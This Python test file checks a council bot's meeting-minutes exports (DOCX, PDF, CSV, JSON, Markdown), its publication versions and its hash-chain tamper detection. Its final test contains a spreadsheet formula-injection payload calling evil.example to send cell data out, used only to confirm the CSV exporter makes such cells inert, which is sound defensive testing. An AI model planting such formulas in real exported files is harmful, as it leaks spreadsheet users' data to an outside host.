"""Minutes files (DOCX, PDF, CSV, JSON, Markdown), their publication and the chain check, on a real database."""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import subprocess
from dataclasses import replace
from datetime import timedelta
from pathlib import Path

import pytest
from sqlalchemy import delete, inspect, text, update

from bot.desk import minutes as minutes_service
from bot.minutes_files import FORMATS, md_escape, outline, to_csv, to_docx, to_json, to_markdown, to_pdf, to_text
from deliberation import usecases
from deliberation.chain import Event
from deliberation.minutes import BadFormat, BadScope, MeetingNotFound, Scope, minutes_from_dict, publishing
from deliberation.model import Actor
from storage.database import make_engine, make_sessions
from storage.migrate import downgrade, upgrade
from storage.models import EventRow
from storage.uow import SqlUnitOfWork
from tests.integration.minutes_script import Recording, record
from tests.unit.minutes_chain import CHARGERS, RAIN_SHELTER_AMENDED, minutes_of, scripted_chain


@pytest.fixture(scope="module")
def nantang(tmp_path_factory) -> Recording:
    return record(tmp_path_factory.mktemp("nantang"), "nantang")


@pytest.fixture(scope="module")
def civil278(tmp_path_factory) -> Recording:
    return record(tmp_path_factory.mktemp("civil278"), "civil278")


@pytest.mark.parametrize("preset", ["nantang", "robert", "resident_meeting", "civil278"])
def test_the_unit_tests_chain_is_what_the_use_cases_record(preset, nantang, civil278, tmp_path):
    """tests/unit/test_minutes.py replays a chain written in memory; it must be, event for event and
    hash for hash, the chain the real use cases store for the same script."""
    recording = {"nantang": nantang, "civil278": civil278}.get(preset) or record(tmp_path, preset)
    assert scripted_chain(preset) == recording.events


def minutes_for(recording: Recording, events=None):
    return minutes_of(events or recording.events, recording.seq, recording.head)


@pytest.fixture
async def database(nantang, tmp_path):
    """A private copy of the recorded database, so a test may publish into it or tamper with it."""
    for suffix in ("", "-wal", "-shm"):
        source = Path(str(nantang.database) + suffix)
        if source.exists():
            shutil.copy(source, tmp_path / ("copy.db" + suffix))
    engine = make_engine(f"sqlite+aiosqlite:///{tmp_path / 'copy.db'}")
    yield engine, make_sessions(engine)
    await engine.dispose()


def flat(text: str) -> str:
    return "".join(text.split())


def pdf_text(data: bytes) -> str:
    from pypdf import PdfReader

    return flat("".join(page.extract_text() for page in PdfReader(io.BytesIO(data)).pages))


def docx_text(data: bytes) -> str:
    import docx

    document = docx.Document(io.BytesIO(data))
    cells = [cell.text for table in document.tables for row in table.rows for cell in row.cells]
    return "\n".join([p.text for p in document.paragraphs] + cells)


# ---- DOCX ---------------------------------------------------------------------------------------------


def test_docx_is_the_usual_form_with_its_fields(civil278):
    import docx
    from docx.oxml.ns import qn

    document = docx.Document(io.BytesIO(to_docx(minutes_for(civil278), "zh_Hans")))
    assert document.paragraphs[0].text == "阳光小区3号楼议事会议事记录"
    header = document.tables[0]
    fields = {}
    for row in header.rows:
        cells = [c.text for c in row.cells]
        fields[cells[0]] = cells[1]
        if cells[2] != cells[1]:  # a row with two label/value pairs
            fields[cells[2]] = cells[3]
    assert fields["会议名称"] and fields["时间"].startswith("2026年11月20日")
    assert fields["地点"] == "线上群聊「阳光小区3号楼议事会」"
    assert (fields["主持人"], fields["记录人"], fields["应到"]) == ("王主任", "孙七", "6人（5户）")
    assert fields["实到"].startswith("5人")

    votes = document.tables[1]
    assert [c.text for c in votes.rows[0].cells] == [
        "编号",
        "事项",
        "方式",
        "赞成",
        "反对",
        "弃权",
        "未参与",
        "比例",
        "结果",
    ]
    rows = [[c.text for c in r.cells] for r in votes.rows[1:]]
    assert [r[0] for r in rows] == ["#2", "#1", "#3"]
    assert rows[1][3:6] == ["3户 299㎡", "1户 100㎡", "0户 0㎡"] and rows[1][-1] == "通过"
    assert rows[2][2] == "无记名投票" and rows[2][-1] == "未通过"
    assert rows[1][6] == "1户 95㎡"  # 孙七 (3-701, 95 ㎡) did not vote
    assert "面积74.94%" in rows[1][7] and "人数75.00%" in rows[1][7]

    paragraphs = [p.text for p in document.paragraphs]
    assert any(p.startswith("议题一（第1号）") and RAIN_SHELTER_AMENDED in p for p in paragraphs)
    assert "提议人：张三" in "\n".join(paragraphs) and "提议人：李四" not in paragraphs[3]
    assert any(p.startswith("主持人（签字）：") and "记录人（签字）：" in p for p in paragraphs)
    rfonts = document.styles["Normal"].element.rPr.rFonts
    assert rfonts.get(qn("w:eastAsia")) == "宋体"


@pytest.mark.parametrize(
    "locale, label, title",
    [("en", "Meeting", "Minutes of 阳光小区3号楼议事会"), ("zh_Hant", "會議名稱", "阳光小区3号楼议事会議事記錄")],
)
def test_docx_speaks_the_readers_language(nantang, locale, label, title):
    import docx

    document = docx.Document(io.BytesIO(to_docx(minutes_for(nantang), locale)))
    assert document.paragraphs[0].text == title
    assert document.tables[0].rows[0].cells[0].text == label


# ---- PDF ----------------------------------------------------------------------------------------------


def test_pdf_text_is_extractable_chinese(civil278):
    data = to_pdf(minutes_for(civil278), "zh_Hans")
    text = pdf_text(data)
    assert flat(RAIN_SHELTER_AMENDED) in text and flat(CHARGERS) in text
    assert "主持人（签字）" in text and "表决情况" in text and civil278.head in text
    assert b"/FontFile2" in data  # the TrueType font is embedded (subset)


def _ink(pdf: bytes, directory: Path, name: str) -> int:
    from PIL import Image

    source = directory / f"{name}.pdf"
    source.write_bytes(pdf)
    subprocess.run(
        ["pdftoppm", "-r", "50", "-gray", "-png", "-f", "1", "-l", "1", str(source), str(directory / name)],
        check=True,
        capture_output=True,
        timeout=60,
    )
    [png] = directory.glob(f"{name}*.png")
    image = Image.open(png).convert("L")
    return sum(image.histogram()[:128])  # dark pixels


def test_pdf_page_shows_real_glyphs(nantang, tmp_path):
    if shutil.which("pdftoppm") is None:
        if os.environ.get("CI"):
            pytest.fail("CI must install poppler-utils")
        pytest.skip("pdftoppm is not installed")
    from reportlab.pdfgen import canvas

    blank = io.BytesIO()
    page = canvas.Canvas(blank)
    page.showPage()
    page.save()

    minutes = minutes_for(nantang)

    def with_text(motion_text: str) -> bytes:
        changed = tuple(replace(m, text=motion_text) if m.number == 1 else m for m in minutes.motions)
        return to_pdf(replace(minutes, motions=changed), "zh_Hans")

    light = _ink(with_text("一" * 80), tmp_path, "light")
    dense = _ink(with_text("鬱" * 80), tmp_path, "dense")
    empty = _ink(blank.getvalue(), tmp_path, "blank")
    assert empty < 50 < light
    # Empty boxes would look the same whatever the character; real glyphs differ in ink.
    assert dense > light + 1000


# ---- CSV, JSON, Markdown -------------------------------------------------------------------------------


def test_csv_opens_in_excel_with_one_row_per_motion_and_ballot(civil278):
    data = to_csv(minutes_for(civil278), "zh_Hans")
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    kinds = [(r["记录类型"], r["议题编号"]) for r in rows]
    assert kinds == [
        ("议题", "1"),
        ("表决", "1"),
        ("议题", "2"),
        ("表决", "2"),
        ("议题", "3"),
        ("表决", "3"),
        ("议题", "4"),
        ("议题", "5"),
    ]
    shelter_vote = rows[1]
    assert shelter_vote["赞成面积(㎡)"] == "299" and shelter_vote["同意面积比例"] == "74.94%"
    assert (shelter_vote["同意面积(㎡)"], shelter_vote["参与表决面积(㎡)"]) == ("299", "399")  # never "299/399"
    assert shelter_vote["通过"] == "是" and "张三:赞成" in shelter_vote["记名表决"]
    assert rows[5]["无记名"] == "是" and rows[5]["记名表决"] == ""
    assert rows[0]["提议人"] == "张三" and rows[0]["议题内容（最终表述）"] == RAIN_SHELTER_AMENDED


def test_json_carries_the_model_and_the_rows(civil278):
    minutes = minutes_for(civil278)
    document = json.loads(to_json(minutes))
    assert document["schema"] == "yishi.minutes/1"
    assert minutes_from_dict(document["minutes"]) == minutes
    assert [r["record"] for r in document["rows"]].count("ballot") == 3
    assert document["minutes"]["chain_head"] == civil278.head


def test_markdown_makes_user_text_inert():
    assert md_escape("*粗体* <b>x</b> | a_b") == "\\*粗体\\* \\<b\\>x\\</b\\> \\| a\\_b"
    assert md_escape("多行\n文本") == "多行 文本"


def test_secret_ballot_choices_appear_in_no_format(nantang):
    minutes = minutes_for(nantang)
    secret = next(v for v in minutes.votes if v.secret)
    cast = {e.seq for e in nantang.events if e.type == "vote.cast" and e.payload["ballot"] == secret.ballot}
    leaked_events = [
        Event(
            e.council_id,
            e.seq,
            e.type,
            e.at,
            {**e.payload, "choice": "no", "voter": f"m{e.seq}", "area_cm2": 0} if e.seq in cast else e.payload,
            e.prev_hash,
            e.hash,
        )
        for e in nantang.events
    ]
    leaked = minutes_for(nantang, leaked_events)
    for locale in ("zh_Hans", "en", "zh_Hant"):
        assert to_markdown(leaked, locale) == to_markdown(minutes, locale)
        assert to_text(leaked, locale) == to_text(minutes, locale)
        assert to_csv(leaked, locale) == to_csv(minutes, locale)
        assert docx_text(to_docx(leaked, locale)) == docx_text(to_docx(minutes, locale))
        assert pdf_text(to_pdf(leaked, locale)) == pdf_text(to_pdf(minutes, locale))
    assert to_json(leaked) == to_json(minutes)
    rows = json.loads(to_json(minutes))["rows"]
    assert next(r for r in rows if r["record"] == "ballot" and r["secret"])["roll_call"] is None
    # The roll-call section lists only the open ballots.
    lines = [b.text for b in outline(minutes, "zh_Hans") if hasattr(b, "text") and "：赞成：" in b.text]
    assert lines and all(not line.startswith(f"第{secret.number}号") for line in lines)


# ---- the service: draft, publish, export, verify ---------------------------------------------------------


async def in_uow(sessions, service, *args, **kwargs):
    """Call a minutes service function as the desk does: in one unit of work, committed once after it."""
    async with SqlUnitOfWork(sessions) as uow:
        result = await service(uow, *args, **kwargs)
        await uow.commit()
        return result


async def test_draft_publish_and_correct(database, nantang):
    _, sessions = database
    now = nantang.ended_at + timedelta(hours=1)
    draft = await in_uow(sessions, minutes_service.draft, nantang.chat_key, "all", now=now)
    assert draft.minutes.chain_head == nantang.head and draft.minutes.version == 1
    assert RAIN_SHELTER_AMENDED in draft.text and draft.text.startswith("【议事记录草稿】")

    first = await in_uow(sessions, minutes_service.publish, nantang.council_id, "all", now=now)
    assert (first.version.version, first.unchanged, first.previous) == (1, False, None)
    assert first.ends_at == now + timedelta(days=7) and "公示期至" in first.announcement
    await in_uow(sessions, publishing.record_pin, first.version.id, "msg:42")

    again = await in_uow(sessions, minutes_service.publish, nantang.council_id, "all", now=now + timedelta(minutes=5))
    assert again.unchanged and again.version.id == first.version.id

    # Something new happens; publishing again makes version 2 and keeps version 1 readable.
    async with SqlUnitOfWork(sessions) as uow:
        council = await uow.councils.get(nantang.council_id)
        member = await uow.members.by_user(council.id, "tg:13")
        clock = lambda: now + timedelta(minutes=10)  # noqa: E731
        await usecases.raise_motion(uow, clock, council, Actor("tg:13", "王五", member=member), "修缮自行车棚")
        await uow.commit()
    second = await in_uow(sessions, minutes_service.publish, nantang.council_id, "all", now=now + timedelta(minutes=20))
    assert second.version.version == 2 and second.previous.version == 1
    assert "更正第1版" in second.announcement
    versions = await in_uow(sessions, minutes_service.versions, nantang.council_id)
    assert [v.version for v in versions] == [1, 2]
    assert versions[0].pinned_message_ref == "msg:42"
    assert versions[0].minutes.motion(6) is None and versions[1].minutes.motion(6).text == "修缮自行车棚"
    assert versions[0].markdown.startswith("# 阳光小区3号楼议事会议事记录")

    # The correction ended version 1's 公示 (its post says so); version 2 runs its own full period.
    assert versions[0].publication_ends_at == now + timedelta(minutes=20)
    assert [v.version for v in await in_uow(sessions, publishing.publications_pending)] == [2]
    assert await in_uow(sessions, minutes_service.publications_ended, now=now + timedelta(days=7, minutes=1)) == []
    ended = await in_uow(sessions, minutes_service.publications_ended, now=now + timedelta(days=7, minutes=21))
    assert [e.version.version for e in ended] == [2]
    assert "公示期已于" in ended[0].text and "第2版" in ended[0].text
    assert await in_uow(sessions, minutes_service.publications_ended, now=now + timedelta(days=8)) == []
    assert await in_uow(sessions, publishing.publications_pending) == []


async def test_draft_of_the_latest_meeting(database, nantang):
    _, sessions = database
    at = nantang.ended_at
    with pytest.raises(MeetingNotFound):
        await in_uow(sessions, minutes_service.draft, nantang.council_id, "meeting", now=at)
    async with SqlUnitOfWork(sessions) as uow:  # as the scheduling work will record a meeting
        for offset, (kind, payload) in enumerate(
            [
                ("meeting.opened", {"meeting": 1, "title": "十一月例会"}),
                ("attendance.recorded", {"meeting": 1, "member": 2, "name": "张三"}),
                ("meeting.adjourned", {"meeting": 1}),
                ("meeting.opened", {"meeting": 2, "title": "十二月例会"}),
                ("attendance.recorded", {"meeting": 2, "member": 3, "name": "李四"}),
            ]
        ):
            await uow.events.append(nantang.council_id, kind, at + timedelta(minutes=offset), payload)
        await uow.commit()
    draft = await in_uow(sessions, minutes_service.draft, nantang.council_id, "会议", now=at + timedelta(hours=1))
    assert draft.scope == Scope("meeting", meeting=2) and draft.minutes.title == "十二月例会"
    assert draft.minutes.attendees == ("李四",) and draft.minutes.adjourned_at is None
    first = await in_uow(sessions, minutes_service.draft, nantang.council_id, "meeting 1", now=at + timedelta(hours=1))
    assert first.minutes.attendees == ("张三",) and first.minutes.adjourned_at is not None
    assert "会议名称：2026年第1次例会（十一月例会）" in first.text


async def test_only_the_secretary_or_chair_publishes_and_exports(database, nantang):
    from deliberation.errors import RoleRequired

    _, sessions = database
    async with SqlUnitOfWork(sessions) as uow:
        resident = await uow.members.by_user(nantang.council_id, "tg:11")
        secretary = await uow.members.by_user(nantang.council_id, "tg:15")
    with pytest.raises(RoleRequired):
        await in_uow(
            sessions,
            minutes_service.publish,
            nantang.council_id,
            now=nantang.ended_at,
            actor=Actor("tg:11", "张三", member=resident),
        )
    with pytest.raises(RoleRequired):
        await in_uow(
            sessions, minutes_service.export, nantang.council_id, "pdf", actor=Actor("tg:11", "张三", member=resident)
        )
    name, data = await in_uow(
        sessions,
        minutes_service.export,
        nantang.council_id,
        "md",
        now=nantang.ended_at,
        actor=Actor("tg:15", "孙七", member=secretary),
    )
    assert name.endswith(".md") and data.decode().startswith("# 阳光小区3号楼议事会议事记录")


async def test_export_every_format_and_a_published_version(database, nantang):
    _, sessions = database
    now = nantang.ended_at
    for fmt in FORMATS:
        name, data = await in_uow(sessions, minutes_service.export, nantang.chat_key, fmt, "2026-11-20", now=now)
        assert name == f"议事记录_阳光小区3号楼议事会_20261120_v1.{fmt}"
        assert data
    _, data = await in_uow(sessions, minutes_service.export, nantang.council_id, "json", "3", now=now, locale="en")
    assert [m["number"] for m in json.loads(data)["minutes"]["motions"]] == [3]
    with pytest.raises(BadFormat):
        await in_uow(sessions, minutes_service.export, nantang.council_id, "xls", now=now)
    with pytest.raises(BadScope):
        await in_uow(sessions, minutes_service.export, nantang.council_id, "md", "someday", now=now)

    published = await in_uow(sessions, minutes_service.publish, nantang.council_id, "2026-11-20", now=now)
    name, data = await in_uow(
        sessions,
        minutes_service.export,
        nantang.council_id,
        "json",
        "2026-11-20",
        now=now,
        version=published.version.version,
    )
    assert json.loads(data)["minutes"]["generated_at"] == published.minutes.generated_at.isoformat()


async def test_verify_names_the_tampered_event(database, nantang):
    engine, sessions = database
    verdict = await in_uow(sessions, minutes_service.verify, nantang.council_id)
    assert verdict.ok and verdict.head == nantang.head and verdict.count == nantang.seq
    assert nantang.head in minutes_service.verdict_text(verdict)

    target = next(e for e in nantang.events if e.type == "vote.cast" and e.payload.get("choice") == "no")
    forged = json.dumps({**target.payload, "choice": "yes"}, ensure_ascii=False, sort_keys=True, separators=(",", ":"))
    async with engine.begin() as connection:
        await connection.execute(
            update(EventRow)
            .where(EventRow.council_id == nantang.council_id, EventRow.seq == target.seq)
            .values(payload=forged)
        )
    verdict = await in_uow(sessions, minutes_service.verify, nantang.chat_key)
    assert not verdict.ok and (verdict.broken_seq, verdict.reason) == (target.seq, "hash")
    assert f"第{target.seq}号事件" in minutes_service.verdict_text(verdict)
    assert f"event #{target.seq}" in minutes_service.verdict_text(verdict, "en")

    async with engine.begin() as connection:
        await connection.execute(update(EventRow).where(EventRow.seq == target.seq).values(payload="{not json"))
    assert (await in_uow(sessions, minutes_service.verify, nantang.council_id)).broken_seq == target.seq


async def test_verify_catches_events_cut_from_the_end(database, nantang):
    engine, sessions = database
    async with engine.begin() as connection:
        await connection.execute(delete(EventRow).where(EventRow.seq == nantang.seq))
    verdict = await in_uow(sessions, minutes_service.verify, nantang.council_id)
    assert not verdict.ok and (verdict.broken_seq, verdict.reason) == (nantang.seq, "gap")


async def test_migration_0003_goes_up_down_and_up(tmp_path):
    engine = make_engine(f"sqlite+aiosqlite:///{tmp_path / 'stairs.db'}")
    try:

        async def tables() -> set[str]:
            async with engine.connect() as connection:
                return set(await connection.run_sync(lambda c: inspect(c).get_table_names()))

        await upgrade(engine, "0003")
        assert "minutes_versions" in await tables()
        await downgrade(engine, "0002")
        assert "minutes_versions" not in await tables()
        await upgrade(engine)
        async with engine.connect() as connection:
            version = (await connection.execute(text("select version_num from alembic_version"))).scalar_one()
            columns = await connection.run_sync(
                lambda c: {col["name"] for col in inspect(c).get_columns("minutes_versions")}
            )
        assert version >= "0003"
        assert {
            "council_id",
            "version",
            "scope",
            "body",
            "chain_head",
            "chain_seq",
            "created_at",
            "published_at",
            "publication_ends_at",
            "publication_announced_at",
            "pinned_message_ref",
        } <= columns
    finally:
        await engine.dispose()


def test_pdf_wrapping_keeps_every_character_and_whole_numbers():
    from bot.minutes_files.pdf import _NO_LINE_START, _Measure, pdf_font

    text = "参与表决：专有面积80.77%（21/26），业主人数80.00%（4/5）。Owners agreed unanimously. " * 3
    measure = _Measure(pdf_font(text), 10)
    lines = measure.wrap(text, 120)
    assert len(lines) > 3
    assert flat("".join(lines)) == flat(text)
    for line in lines:
        body = line[:-1] if line and line[-1] in _NO_LINE_START else line
        assert sum(measure.char(c) for c in body) <= 120
    assert not any(line[:1] in "，。）、" for line in lines[1:])  # closing punctuation never starts a line
    for number in ("80.77%", "21/26", "80.00%", "unanimously."):  # never cut in two
        assert sum(line.count(number) for line in lines) == text.count(number) == 3


def test_chat_text_has_the_vote_table_but_no_signature_lines(civil278):
    text = to_text(minutes_for(civil278), "zh_Hans")
    assert "#1｜" in text and "3户 299㎡" in text
    assert "签字" not in text and civil278.head not in text


def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_made_inert(civil278):
    """issue 12 #8: a motion worded "=HYPERLINK(...)" must reach Excel as text, not as a formula."""
    minutes = minutes_for(civil278)
    texts = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "@SUM(1)", "-1+2", "\t=1", "普通议题"]
    motions = [replace(m, text=text) for m, text in zip(minutes.motions, texts, strict=False)]
    data = to_csv(replace(minutes, motions=motions), "zh_Hans")
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    cells = [r["议题内容（最终表述）"] for r in rows if r["记录类型"] == "议题"]
    assert len(minutes.motions) == len(texts)
    assert cells == ["'" + t for t in texts[:-1]] + ["普通议题"]
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
    shelter_vote = rows[1]
    assert shelter_vote["赞成面积(㎡)"] == "299"  # numbers are left as they are
